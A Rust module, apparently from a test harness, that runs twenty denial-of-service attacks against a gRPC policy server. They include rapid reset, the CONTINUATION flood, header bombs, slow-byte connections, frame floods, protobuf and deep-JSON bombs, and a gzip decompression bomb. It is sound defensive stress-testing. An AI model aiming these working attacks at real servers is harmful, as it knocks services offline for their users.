//! What a hostile client does. Each attack goes on until its phase is over, and pauses between two bursts: attacker and
//! server share the processors here, and what the attacker itself burns would say nothing of the server.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::BoxFuture;
use h2::client::SendRequest;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, HELLO, PING, RST_STREAM, SETTINGS, call, connect, frame,
    literal,
};
use super::headers;

const ADMIT: &str = "/gavel.v1.PolicyDecision/Admit";
const CHECK_FLOW: &str = "/gavel.v1.PolicyDecision/CheckFlow";
/// Between two bursts.
const PAUSE: Duration = Duration::from_millis(20);

/// An attack: whatever becomes of its connections, it goes on.
pub(super) type Attack = fn(SocketAddr) -> BoxFuture<'static, ()>;

/// All of them, against a server in clear.
pub(super) const ATTACKS: [(&str, Attack); 20] = [
    ("silent connections", |address| Box::pin(silent(address))),
    ("a connection flood", |address| Box::pin(connections(address))),
    ("a byte of the preface now and then", |address| Box::pin(slow_preface(address))),
    ("a byte of the headers now and then", |address| Box::pin(headers::slow(address))),
    ("a byte of the body now and then", |address| Box::pin(slow_body(address))),
    ("answers that are never read", |address| Box::pin(no_window(address))),
    ("a socket that is never read", |address| Box::pin(no_reading(address))),
    ("streams that are opened and left", |address| Box::pin(left_streams(address))),
    ("rapid reset (CVE-2023-44487)", |address| Box::pin(rapid_reset(address))),
    ("resets provoked of the server (CVE-2025-8671)", |address| Box::pin(made_you_reset(address))),
    ("a body without end", |address| Box::pin(endless_body(address))),
    ("huge headers", |address| Box::pin(huge_headers(address))),
    ("a bomb of headers (CVE-2016-6581)", |address| Box::pin(headers::bomb(address))),
    ("a flood of CONTINUATION (CVE-2024-27316)", |address| Box::pin(continuations(address))),
    ("floods of SETTINGS, PING and empty DATA", |address| Box::pin(control_frames(address))),
    ("deep JSON", |address| Box::pin(messages(address, deep_json))),
    ("huge objects", |address| Box::pin(messages(address, huge_object))),
    ("invalid UTF-8", |address| Box::pin(messages(address, invalid_utf8))),
    ("protobuf bombs", |address| Box::pin(messages(address, deep_groups))),
    ("compressed bombs", |address| Box::pin(compressed(address))),
];

/// Opens connections, and says nothing.
async fn silent(address: SocketAddr) {
    let mut open = Vec::new();
    loop {
        for _ in 0..20 {
            if open.len() < 400
                && let Ok(stream) = connect(address).await
            {
                open.push(stream);
            }
        }
        sleep(PAUSE).await;
    }
}

async fn connections(address: SocketAddr) {
    loop {
        for _ in 0..20 {
            drop(connect(address).await);
        }
        sleep(PAUSE).await;
    }
}

async fn slow_preface(address: SocketAddr) {
    let mut open: Vec<TcpStream> = Vec::new();
    for byte in HELLO.iter().cycle() {
        while open.len() < 100 {
            match connect(address).await {
                Ok(stream) => open.push(stream),
                Err(_) => break,
            }
        }
        let mut going = Vec::new();
        for mut stream in open {
            if stream.write_all(&[*byte]).await.is_ok() {
                going.push(stream);
            }
        }
        open = going;
        sleep(PAUSE * 5).await;
    }
}

/// A client of h2, which keeps to the protocol, with windows as large as can be for what it sends.
async fn client(address: SocketAddr, window: Option<u32>) -> Option<SendRequest<Bytes>> {
    let stream = connect(address).await.ok()?;
    let mut builder = h2::client::Builder::new();
    if let Some(window) = window {
        builder.initial_window_size(window);
    }
    let (send, connection) = builder.handshake(stream).await.ok()?;
    tokio::spawn(connection);
    send.ready().await.ok()
}

fn request(path: &str) -> Option<http::Request<()>> {
    let request = http::Request::post(format!("http://gavel{path}"));
    request.header("content-type", "application/grpc").header("te", "trailers").body(()).ok()
}

/// A message as gRPC frames it.
fn framed(flag: u8, length: usize, message: &[u8]) -> Bytes {
    let mut framed = vec![flag];
    framed.extend(u32::try_from(length).unwrap_or(u32::MAX).to_be_bytes());
    framed.extend(message);
    framed.into()
}

async fn slow_body(address: SocketAddr) {
    loop {
        let Some(mut send) = client(address, None).await else {
            sleep(PAUSE).await;
            continue;
        };
        let mut bodies = Vec::new();
        for _ in 0..100 {
            let Some(request) = request(ADMIT) else { return };
            if let Ok((_, body)) = send.send_request(request, false) {
                bodies.push(body);
            }
        }
        while !bodies.is_empty() {
            bodies.retain_mut(|body| body.send_data(Bytes::from_static(&[0]), false).is_ok());
            sleep(PAUSE * 5).await;
        }
    }
}

/// Asks, and gives the server no room for a single byte of an answer.
async fn no_window(address: SocketAddr) {
    loop {
        if let Some(mut send) = client(address, Some(0)).await {
            let mut held = Vec::new();
            for _ in 0..200 {
                let Some(request) = request("/gavel.v1.PolicyDecision/GetSnapshot") else { return };
                let Ok((answer, mut body)) = send.send_request(request, false) else { break };
                let _ = body.send_data(framed(0, 0, &[]), true);
                held.push(answer);
            }
            sleep(PAUSE * 20).await;
        }
        sleep(PAUSE).await;
    }
}

/// Writes bursts of these bytes to connections that nobody reads from.
async fn write(address: SocketAddr, burst: &[u8]) {
    loop {
        if let Ok(mut stream) = connect(address).await
            && stream.write_all(HELLO).await.is_ok()
        {
            while let Ok(Ok(())) = tokio::time::timeout(PAUSE * 10, stream.write_all(burst)).await {
                sleep(PAUSE).await;
            }
        }
        sleep(PAUSE).await;
    }
}

async fn no_reading(address: SocketAddr) {
    write(address, &frame(PING, 0, 0, &[0; 8]).repeat(200)).await;
}

async fn left_streams(address: SocketAddr) {
    loop {
        if let Some(mut send) = client(address, None).await {
            let mut held = Vec::new();
            for _ in 0..1000 {
                let Some(request) = request(CHECK_FLOW) else { return };
                let Ok(ready) = tokio::time::timeout(PAUSE, send.clone().ready()).await else { break };
                let Ok(ready) = ready else { break };
                send = ready;
                match send.send_request(request, false) {
                    Ok(stream) => held.push(stream),
                    Err(_) => break,
                }
            }
            sleep(PAUSE * 20).await;
        }
        sleep(PAUSE).await;
    }
}

/// Streams of a connection: odd numbers.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| number * 2 + 1)
}

/// Sends these frames for each of many streams of one connection after another.
async fn by_stream(address: SocketAddr, frames: impl Fn(u32) -> Vec<u8>) {
    loop {
        if let Ok(mut stream) = connect(address).await
            && stream.write_all(HELLO).await.is_ok()
        {
            let all: Vec<u32> = streams(2000).collect();
            for some in all.chunks(50) {
                let burst: Vec<u8> = some.iter().flat_map(|number| frames(*number)).collect();
                let written = tokio::time::timeout(PAUSE * 10, stream.write_all(&burst)).await;
                if !matches!(written, Ok(Ok(()))) {
                    break;
                }
                sleep(PAUSE).await;
            }
        }
        sleep(PAUSE).await;
    }
}

async fn rapid_reset(address: SocketAddr) {
    let headers = call(CHECK_FLOW);
    by_stream(address, |stream| {
        let mut frames = frame(HEADERS, END_HEADERS, stream, &headers);
        frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        frames
    })
    .await;
}

/// A window that is raised by nothing is an error of the stream: the server has to reset it.
async fn made_you_reset(address: SocketAddr) {
    const WINDOW_UPDATE: u8 = 8;
    let headers = call(CHECK_FLOW);
    by_stream(address, |stream| {
        let mut frames = frame(HEADERS, END_HEADERS, stream, &headers);
        frames.extend(frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()));
        frames
    })
    .await;
}

async fn endless_body(address: SocketAddr) {
    loop {
        if let Some(mut send) = client(address, None).await {
            let mut bodies = Vec::new();
            for _ in 0..20 {
                let Some(request) = request(ADMIT) else { return };
                let Ok((answer, mut body)) = send.send_request(request, false) else { break };
                let _ = body.send_data(framed(0, 8 << 20, &[b'x'; 16_000]), false);
                bodies.push((answer, body));
            }
            for _ in 0..50 {
                for (_, body) in &mut bodies {
                    body.reserve_capacity(16_000);
                    if body.capacity() >= 16_000 {
                        let _ = body.send_data(Bytes::from_static(&[b'x'; 16_000]), false);
                    }
                }
                sleep(PAUSE).await;
            }
        }
        sleep(PAUSE).await;
    }
}

async fn huge_headers(address: SocketAddr) {
    let mut block = call(CHECK_FLOW);
    for number in 0..100 {
        literal(&mut block, &format!("x-{number}"), &"y".repeat(1000));
    }
    by_stream(address, move |stream| {
        let parts: Vec<&[u8]> = block.chunks(16_000).collect();
        let last = parts.len() - 1;
        let kind = |index| if index == 0 { HEADERS } else { CONTINUATION };
        let flags = |index| if index == last { END_HEADERS } else { 0 };
        parts
            .iter()
            .enumerate()
            .flat_map(|(index, part)| frame(kind(index), flags(index), stream, part))
            .collect()
    })
    .await;
}

async fn continuations(address: SocketAddr) {
    let mut begin = frame(HEADERS, 0, 1, &call(CHECK_FLOW));
    let mut block = Vec::new();
    literal(&mut block, "x", "y");
    begin.extend(frame(CONTINUATION, 0, 1, &block).repeat(2000));
    write(address, &begin).await;
}

async fn control_frames(address: SocketAddr) {
    let mut burst = frame(SETTINGS, 0, 0, &[]).repeat(50);
    burst.extend(frame(PING, 0, 0, &[1; 8]).repeat(50));
    burst.extend(frame(DATA, 0, 1, &[]).repeat(50));
    let mut begin = frame(HEADERS, END_HEADERS, 1, &call(CHECK_FLOW));
    begin.extend(burst);
    write(address, &begin).await;
}

/// Asks with such a message, again and again.
async fn messages(address: SocketAddr, message: fn() -> (&'static str, Vec<u8>)) {
    let (path, message) = message();
    let body = framed(0, message.len(), &message);
    ask(address, path, &body).await;
}

async fn ask(address: SocketAddr, path: &'static str, body: &Bytes) {
    loop {
        if let Some(mut send) = client(address, None).await {
            for _ in 0..20 {
                let Some(request) = request(path) else { return };
                let Ok((answer, mut stream)) = send.send_request(request, false) else { break };
                let _ = stream.send_data(body.clone(), true);
                let _ = tokio::time::timeout(PAUSE * 10, answer).await;
                sleep(PAUSE).await;
            }
        }
        sleep(PAUSE).await;
    }
}

/// A field of bytes: protobuf's wire type 2.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    let mut encoded = vec![number << 3 | 2];
    let mut rest = bytes.len();
    while rest >= 128 {
        encoded.push(u8::try_from(rest % 128).unwrap_or_default() | 128);
        rest /= 128;
    }
    encoded.push(u8::try_from(rest).unwrap_or_default());
    encoded.extend(bytes);
    encoded
}

/// An admission of this object: operation CREATE, a namespace, a user.
fn admission(object: &[u8]) -> (&'static str, Vec<u8>) {
    let mut message = vec![2 << 3, 1];
    message.extend(field(3, b"shop"));
    message.extend(field(5, &field(1, b"mallory")));
    message.extend(field(6, object));
    (ADMIT, message)
}

fn deep_json() -> (&'static str, Vec<u8>) {
    admission(format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).as_bytes())
}

fn huge_object() -> (&'static str, Vec<u8>) {
    let padding = "x".repeat(2 << 20);
    admission(
        format!(r#"{{"kind":"Pod","metadata":{{"name":"a","annotations":{{"a":"{padding}"}}}}}}"#).as_bytes(),
    )
}

fn invalid_utf8() -> (&'static str, Vec<u8>) {
    let mut message = field(1, &[0xff; 1000]);
    message.extend(field(3, &[0xc0, 0x80]));
    (ADMIT, message)
}

/// Groups within groups, of a number that nobody knows.
fn deep_groups() -> (&'static str, Vec<u8>) {
    let mut message = vec![15 << 3 | 3; 100_000];
    message.extend(vec![15 << 3 | 4; 100_000]);
    (CHECK_FLOW, message)
}

/// Ten megabytes of zeros in a few kilobytes, as gRPC's gzip.
async fn compressed(address: SocketAddr) {
    use std::io::Write as _;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let written = encoder.write_all(&vec![0; 10 << 20]).and_then(|()| encoder.finish());
    let Ok(bomb) = written else { return };
    let body = framed(1, bomb.len(), &bomb);
    loop {
        if let Some(mut send) = client(address, None).await {
            for _ in 0..20 {
                let Some(mut request) = request(CHECK_FLOW) else { return };
                request.headers_mut().insert("grpc-encoding", http::HeaderValue::from_static("gzip"));
                let Ok((answer, mut stream)) = send.send_request(request, false) else { break };
                let _ = stream.send_data(body.clone(), true);
                let _ = tokio::time::timeout(PAUSE * 10, answer).await;
                sleep(PAUSE).await;
            }
        }
        sleep(PAUSE).await;
    }
}
